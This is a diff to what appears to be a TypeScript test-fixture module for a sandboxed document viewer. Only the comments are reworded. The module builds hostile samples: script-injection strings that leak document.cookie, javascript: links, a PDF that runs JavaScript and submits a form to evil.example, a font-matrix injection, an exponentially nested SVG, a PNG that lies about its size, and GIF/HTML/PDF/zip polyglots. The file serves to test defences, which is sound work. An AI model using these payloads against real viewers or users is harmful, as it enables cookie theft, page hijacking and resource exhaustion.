@@ -2,7 +2,7 @@ import { crc32, deflateSync } from 'node:zlib';
 import { pdfOf } from '../../../sandbox/src/shared/content/pdf.ts';
 import { zip } from './zip.ts';
 
-/** What a hostile script tries: to leak data, to change the page, to navigate away. */
+/** The attempts of a hostile script: to leak data, to change the page, to navigate away. */
 const deeds = `alert('owned');localStorage.owned=1;top.document.title='owned';top.owned=1;top.location='/owned';
 new Image().src='/owned?'+document.cookie;fetch('/owned');parent.postMessage({type:'link',href:'javascript:owned()'},'*');`;
 const attribute = deeds.replaceAll('\n', '').replaceAll("'", '&#39;');
@@ -31,7 +31,7 @@ Content-Type: text/html; charset=utf-8\r\n\r\n${html}`;
 export const markdown = `# Notes\n\n<script>${deeds}</script>\n\n[Click](javascript:${encodeURIComponent(deeds)})
 <img src=x onerror="${attribute}">\n\n![pixel](http://evil.example/pixel.gif)`;
 
-/** Runs JavaScript when opened, on the page and by a link, where a viewer lets it. */
+/** Runs JavaScript when opened, on the page and by a link, if a viewer lets it. */
 export function pdf(): Buffer {
   const script = '(app.alert\\("owned"\\); this.submitForm\\("http://evil.example/owned"\\);)';
   const text = 'BT /F1 24 Tf 72 700 Td (A harmless looking page) Tj ET';
@@ -42,7 +42,7 @@ export function pdf(): Buffer {
       /AA << /O << /S /JavaScript /JS ${script} >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792]
       /A << /S /URI /URI (javascript:owned\\(\\)) >> >>] >>`,
     `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
-    // A font whose matrix contains a program: once a vulnerability of the library.
+    // A font whose matrix contains a program, which was once a vulnerability of the library.
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); alert\\(1\\)//)] >>',
   ];
   return pdfOf(objects);
@@ -97,7 +97,7 @@ export function docx(): Buffer {
   });
 }
 
-/** A PNG with one bit a pixel: small, whatever it claims to be. */
+/** A PNG with one bit per pixel: small, whatever size it claims. */
 export function png(width: number, height: number): Buffer {
   const chunk = (type: string, data: Buffer) => {
     const named = Buffer.concat([Buffer.from(type), data]);
@@ -115,11 +115,11 @@ export function png(width: number, height: number): Buffer {
   return Buffer.concat([sign, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
 }
 
-/** A drawing in which each of twelve groups holds the one before ten times. */
+/** A drawing in which each of twelve groups contains the one before ten times. */
 export const endlessSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><g id="g0"><rect width="1" height="1"/></g>
 ${Array.from({ length: 12 }, (_, n) => `<g id="g${n + 1}">${`<use href="#g${n}"/>`.repeat(10)}</g>`).join('')}</svg>`;
 
-/** Begins as a GIF and goes on as a script; as a page; as a PDF that is a zip. */
+/** Starts as a GIF and continues as a script; as a page; as a PDF that is a zip. */
 export const polyglots = {
   gif: Buffer.from(`GIF89a/*\x0a\x00\x0a\x00*/=1;${deeds}<script>${deeds}</script>`, 'latin1'),
   pdf: Buffer.concat([Buffer.from(html), pdf(), docx()]),
